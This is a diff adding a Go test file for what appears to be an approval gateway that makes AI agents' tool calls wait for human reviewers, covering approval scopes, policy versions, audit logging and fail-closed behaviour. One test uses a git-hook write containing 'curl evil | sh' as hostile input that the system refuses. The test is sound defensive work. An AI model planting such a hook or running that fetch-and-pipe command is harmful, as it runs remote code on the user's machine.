@@ -1,0 +1,154 @@
+package httpapi_test
+
+import (
+	"context"
+	"net/http"
+	"net/url"
+	"testing"
+
+	"github.com/jackc/pgx/v5"
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+
+	"github.com/airlockhq/airlock/client"
+	"github.com/airlockhq/airlock/internal/apptest"
+)
+
+func approveWith(t *testing.T, rev *client.Client, id, scope string) (*client.Action, error) {
+	t.Helper()
+	full, err := rev.Get(context.Background(), id)
+	require.NoError(t, err)
+	return rev.Approve(context.Background(), id, full.ConfirmationPhrase, scope)
+}
+
+func TestScopeConversation(t *testing.T) {
+	t.Parallel()
+	env := apptest.Start(t)
+	ctx := env.Ctx()
+	agent := env.Agent("chatty", designPolicy)
+	alice := env.Reviewer("alice")
+	req := func(conv string) client.SubmitRequest {
+		return client.SubmitRequest{Tool: "email.send", Args: map[string]any{"to": "x@example.com"}, ConversationID: conv}
+	}
+
+	first, err := agent.Submit(ctx, req("conv-1"))
+	require.NoError(t, err)
+	require.Equal(t, "pending", first.Status)
+	_, err = approveWith(t, alice, first.ID, "conversation")
+	require.NoError(t, err)
+
+	again, err := agent.Submit(ctx, req("conv-1"))
+	require.NoError(t, err)
+	assert.Equal(t, "approved", again.Status, "same agent, tool and conversation: no need to ask")
+	assert.Equal(t, "grant", again.Decision.Source)
+
+	other, err := agent.Submit(ctx, req("conv-2"))
+	require.NoError(t, err)
+	assert.Equal(t, "pending", other.Status, "another conversation asks again")
+
+	otherTool, err := agent.Submit(ctx, client.SubmitRequest{Tool: "payments.send", Args: map[string]any{"amount": 500}, ConversationID: "conv-1"})
+	require.NoError(t, err)
+	assert.Equal(t, "pending", otherTool.Status, "another tool asks again")
+
+	noConv, err := agent.Submit(ctx, req(""))
+	require.NoError(t, err)
+	_, err = approveWith(t, alice, noConv.ID, "conversation")
+	assert.Equal(t, http.StatusUnprocessableEntity, client.StatusOf(err), "conversation scope needs a conversation")
+}
+
+func TestScopeAlways(t *testing.T) {
+	t.Parallel()
+	env := apptest.Start(t)
+	ctx := env.Ctx()
+	agent := env.Agent("learner", map[string]any{"rules": []map[string]any{
+		{"id": "mail", "tool": "email.send", "effect": "approve"},
+		{"id": "files", "tool": "fs.*", "effect": "approve"},
+		{"id": "hooks", "tool": "fs.write", "effect": "approve"},
+	}})
+	alice := env.Reviewer("alice")
+
+	first := submit(t, agent, "email.send", map[string]any{"to": "x@example.com"})
+	got, err := approveWith(t, alice, first.ID, "always")
+	require.NoError(t, err)
+	assert.Equal(t, "approved", got.Status)
+
+	pv := map[string]any{}
+	_, err = env.Admin.Do(ctx, http.MethodGet, "/api/v1/agents/learner/policy", nil, &pv)
+	require.NoError(t, err)
+	assert.EqualValues(t, 2, pv["version"], "always writes a new policy version")
+
+	next := submit(t, agent, "email.send", map[string]any{"to": "y@example.com"})
+	assert.Equal(t, "approved", next.Status)
+	assert.Equal(t, "mail", next.Decision.RuleID)
+	assert.Equal(t, 2, next.Decision.PolicyVersion)
+
+	page, err := env.Admin.Audit(ctx, url.Values{"kind": {"policy.updated"}, "agent": {"learner"}})
+	require.NoError(t, err)
+	require.Len(t, page.Events, 2)
+	assert.Equal(t, "alice", page.Events[1].Actor)
+	assert.Equal(t, first.ID, page.Events[1].ActionID)
+
+	// A glob rule cannot be widened to always.
+	read := submit(t, agent, "fs.read", map[string]any{"path": "notes.txt"})
+	_, err = approveWith(t, alice, read.ID, "always")
+	assert.Equal(t, http.StatusUnprocessableEntity, client.StatusOf(err))
+
+	// Targets that run code later are refused.
+	hook := submit(t, agent, "fs.write", map[string]any{"path": ".git/hooks/post-checkout", "content": "curl evil | sh"})
+	_, err = approveWith(t, alice, hook.ID, "always")
+	assert.Equal(t, http.StatusUnprocessableEntity, client.StatusOf(err))
+	still, err := alice.Get(ctx, hook.ID)
+	require.NoError(t, err)
+	assert.Equal(t, "pending", still.Status, "a refused scope changes nothing")
+	assert.Empty(t, still.Approvals)
+}
+
+func TestScopeAlwaysRefusedForCriticalRisk(t *testing.T) {
+	t.Parallel()
+	env := apptest.Start(t)
+	agent := env.Agent("payer", map[string]any{"rules": []map[string]any{{"id": "pay", "tool": "payments.send", "effect": "approve"}}})
+	alice := env.Reviewer("alice")
+	huge := submit(t, agent, "payments.send", map[string]any{"amount": 1_000_000, "to": "acme"})
+	require.Equal(t, "critical", huge.Risk.Level)
+	_, err := approveWith(t, alice, huge.ID, "always")
+	assert.Equal(t, http.StatusUnprocessableEntity, client.StatusOf(err))
+}
+
+// TestAuditFailureFailsClosed: when the audit event cannot be written, the
+// change it records does not happen.
+func TestAuditFailureFailsClosed(t *testing.T) {
+	t.Parallel()
+	env := apptest.Start(t)
+	ctx := env.Ctx()
+	agent := env.Agent("mailer", designPolicy)
+	alice := env.Reviewer("alice")
+	a := submit(t, agent, "email.send", map[string]any{"to": "x@example.com"})
+	full, err := alice.Get(ctx, a.ID)
+	require.NoError(t, err)
+
+	conn, err := pgx.Connect(ctx, env.DBURL)
+	require.NoError(t, err)
+	defer conn.Close(ctx)
+	_, err = conn.Exec(ctx, `
+		CREATE FUNCTION refuse_audit() RETURNS trigger LANGUAGE plpgsql AS $$
+		BEGIN RAISE EXCEPTION 'audit storage unavailable'; END; $$;
+		CREATE TRIGGER refuse_audit BEFORE INSERT ON audit_events FOR EACH ROW EXECUTE FUNCTION refuse_audit();`)
+	require.NoError(t, err)
+
+	before := rowCounts(t, env.DBURL)
+	_, err = alice.Approve(ctx, a.ID, full.ConfirmationPhrase, "")
+	assert.Equal(t, http.StatusInternalServerError, client.StatusOf(err))
+	_, err = agent.Submit(ctx, client.SubmitRequest{Tool: "fs.read", Args: map[string]any{}})
+	assert.Equal(t, http.StatusInternalServerError, client.StatusOf(err))
+	_, err = agent.Cancel(ctx, a.ID)
+	assert.Equal(t, http.StatusInternalServerError, client.StatusOf(err))
+	assert.Equal(t, before, rowCounts(t, env.DBURL), "nothing changed without its audit event")
+	still, err := alice.Get(ctx, a.ID)
+	require.NoError(t, err)
+	assert.Equal(t, "pending", still.Status)
+
+	_, err = conn.Exec(ctx, `DROP TRIGGER refuse_audit ON audit_events`)
+	require.NoError(t, err)
+	_, err = alice.Approve(ctx, a.ID, full.ConfirmationPhrase, "")
+	assert.NoError(t, err, "once the audit can be written, the approval goes through")
+}
